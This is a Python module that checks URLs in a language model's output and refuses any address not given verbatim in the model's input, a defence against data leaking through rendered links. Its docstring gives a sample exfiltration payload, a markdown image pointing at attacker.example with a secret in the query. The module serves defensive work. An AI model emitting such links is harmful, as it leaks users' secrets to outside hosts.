"""Addresses in what a model says. One that it was not given may carry away what it has read.

A page that shows ``![](https://attacker.example/?q=SECRET)`` sends the secret as soon as it is looked at. So every
address in an output has to stand word for word in what the run was given; an invented one is refused too.
"""

from __future__ import annotations

import re
from html import unescape
from typing import TYPE_CHECKING

from tercet.errors import InputError

if TYPE_CHECKING:
    from collections.abc import Iterable

_REST = r"[^\s<>\"'`)\]}|]+"
_ADDRESS = re.compile(
    rf"\b[a-z][a-z0-9+.-]{{1,20}}:[/\\]{{2}}{_REST}"  # with a scheme
    rf"|(?<![\w/\\:.])[/\\]{{2}}[\w-]+\.{_REST}"  # that of the page
    rf"|\bwww\.{_REST}"  # made a link by GitHub Flavored Markdown
    rf"|\b(?:data|mailto|javascript|vbscript|file):{_REST}",
    re.IGNORECASE,
)
_TRAILING = ".,;:!?*_~"
_SHOWN = 100


def addresses(text: str) -> set[str]:
    """The addresses in a text, without the punctuation behind them; written with HTML entities they are the same.

    Example:
        >>> sorted(addresses("See https://acme.example/keys, or ![x](//evil.example/?q=1)."))
        ['//evil.example/?q=1', 'https://acme.example/keys']
    """
    return {found.group().rstrip(_TRAILING) for found in _ADDRESS.finditer(unescape(text))}


def check_addresses(texts: Iterable[str], known: set[str]) -> None:
    """See that all addresses are known.

    Raises:
        InputError: One is not; the message is for the model to mend it by.
    """
    unknown = sorted(set().union(*map(addresses, texts)) - known)
    if unknown:
        raise InputError(
            f"There is no address {unknown[0][:_SHOWN]!r} in anything that you were given.",
            remedy="Leave it out, or write an address exactly as it was given.",
        )
